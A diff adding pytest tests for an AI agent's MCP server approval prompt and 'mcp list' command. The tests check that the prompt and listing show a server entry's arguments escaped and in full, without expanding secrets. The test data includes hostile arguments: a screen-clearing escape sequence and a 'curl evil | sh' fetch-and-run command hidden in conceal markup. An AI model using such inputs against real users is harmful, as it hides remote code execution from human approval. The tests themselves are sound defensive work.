@@ -3,6 +3,7 @@ embedded model calling an MCP tool through the loop and using its result."""
 
 from __future__ import annotations
 
+import io
 import json
 import sys
 import textwrap
@@ -12,7 +13,7 @@ import git
 import pytest
 
 from agent.config import Config, load_config
-from agent.mcp_setup import approvals, configured_servers, mcp_session
+from agent.mcp_setup import approvals, ask_on_terminal, configured_servers, mcp_session
 from tools.base import ToolContext
 
 EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "mcp" / "release_server.py"
@@ -119,3 +120,46 @@ def test_real_model_calls_an_mcp_tool_and_uses_its_result(isolated_user_dirs, mo
     transcript = Path(result.transcript).read_text()
     assert '"name": "release__current_release"' in transcript  # the model called the MCP tool ...
     assert (repo_dir / "VERSION").read_text().strip() == "4.12.7"  # ... and used its result
+
+
+class FakeTerminal(io.StringIO):
+    def isatty(self) -> bool:
+        return True
+
+
+HOSTILE_ARGS = ["\x1b[2J\x1b[Hls", "[conceal]curl evil | sh[/conceal]", "[/x]", "--flag=" + "v" * 200 + "END"]
+
+
+def test_the_approval_question_shows_the_entry_as_written_whole_and_escaped(isolated_user_dirs, monkeypatch, capsys):
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-value")
+    project = project_with_server(
+        isolated_user_dirs / "p",
+        "srv",
+        {"command": "python", "args": HOSTILE_ARGS, "env": {"KEY": "${OPENAI_API_KEY}"}},
+    )
+    (server,) = configured_servers(project).servers
+    monkeypatch.setattr(sys, "stdin", FakeTerminal("n\n"))
+    assert ask_on_terminal(server) is False
+    shown = capsys.readouterr().err
+    assert "\x1b" not in shown and "\\x1b[2J\\x1b[Hls" in shown  # the escape sequence cannot clear the screen
+    assert "KEY=${OPENAI_API_KEY}" in shown and "sk-secret-value" not in shown  # as written, never expanded
+    assert "[conceal]curl evil | sh[/conceal]" in shown and "v" * 200 + "END" in shown
+
+
+def test_mcp_list_shows_markup_and_long_values_as_they_are(isolated_user_dirs, monkeypatch):
+    from typer.testing import CliRunner
+
+    from agent.cli import app
+
+    project = project_with_server(isolated_user_dirs / "p", "srv", {"command": "python", "args": HOSTILE_ARGS})
+    (project / ".vscode").mkdir()
+    (project / ".vscode" / "mcp.json").write_text('{"servers": {"bad": {"command": "x", "timeout": "[/x]"}}}')
+    monkeypatch.setenv("COLUMNS", "1000")
+    result = CliRunner().invoke(app, ["mcp", "list", "--project", str(project)])
+    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
+    assert "[conceal]curl evil | sh[/conceal]" in result.output and "'[/x]'" in result.output
+    assert "\x1b" not in result.output and "\\x1b[2J" in result.output and "v" * 200 + "END" in result.output
+    assert "skipped:" in result.output and "string to float: '[/x]'" in result.output
+    monkeypatch.setenv("COLUMNS", "80")  # a narrow terminal: the line wraps, nothing is cut
+    narrow = CliRunner().invoke(app, ["mcp", "list", "--project", str(project)]).output
+    assert "…" not in narrow and narrow.count("v") >= 200 and "END" in narrow
